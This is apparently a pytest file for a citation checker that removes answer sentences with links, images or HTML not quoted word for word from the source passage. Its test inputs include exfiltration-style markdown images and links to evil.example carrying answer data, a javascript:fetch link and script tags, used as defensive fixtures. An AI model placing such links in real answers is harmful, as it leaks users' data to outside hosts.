"""An answer contains a link, an image or HTML only if the cited passage has it word for word."""

import pytest

from lightwell.answer.reply import verify_reply
from lightwell.answer.verification.active_content import active_parts, are_quoted
from tests.passages import chunk, passage

TERMS = (
    "Nordwind Energie receives a discount of 18 percent on all items. The terms are at https://halden.example/terms, and the"
    " picture is ![logo](https://halden.example/p.png?d=) beside them. Prices are <b>net</b>."
)
SAID = "Nordwind Energie receives a discount of 18 percent on all items"


@pytest.mark.parametrize(
    "added",
    [
        "![logo](http://evil.example/p.png?d=18)",
        "[logo](http://evil.example/?18)",
        "[logo](//evil.example/18)",
        "[logo][a]\n[a]: //evil.example/18",
        "<img src=http://evil.example/18>",
        "<img src=//evil.example/18",
        "http://evil.example/p.png?d=18",
        "HTTP://evil.example/18",
        "www.evil.example/18",
        "evil.example/18",
        "evil.example",
        "18.evil.example",
        "(evil.example)",
        "http:\\\\evil.example\\18",
        "&lt;img src=x&gt;",
        "https://halden.example/terms?d=18",
        "![logo](https://halden.example/p.png?d=18)",
        "[terms](javascript:fetch(18))",
        "mailto:evil@evil.example?subject=18",
        "<script>18</script>",
        "<!-- 18 -->",
    ],
)
def test_what_the_passage_does_not_have_takes_the_sentence_with_it(added: str) -> None:
    evidence = [passage(chunk(TERMS))]
    kept = verify_reply(f"{SAID} {added} [1].", evidence)
    assert [each.text for each in kept if active_parts(each.text)] == []
    assert not are_quoted(f"{SAID} {added}", [TERMS])


@pytest.mark.parametrize(
    "text",
    [
        f"{SAID}.",
        "The terms are at https://halden.example/terms.",
        "The picture is ![logo](https://halden.example/p.png?d=) beside them.",
        "Prices are <b>net</b>.",
        "Costs are 3 < 5 and 7 > 6, and/or 1.5/2.5, at Weber GmbH/Halden Co.",
    ],
)
def test_what_the_passage_has_stands(text: str) -> None:
    assert are_quoted(text, [TERMS])


def test_a_sentence_with_an_address_of_its_passage_is_kept() -> None:
    kept = verify_reply(
        "The terms are at https://halden.example/terms [1].", [passage(chunk(TERMS))]
    )
    assert [each.text for each in kept] == ["The terms are at https://halden.example/terms."]
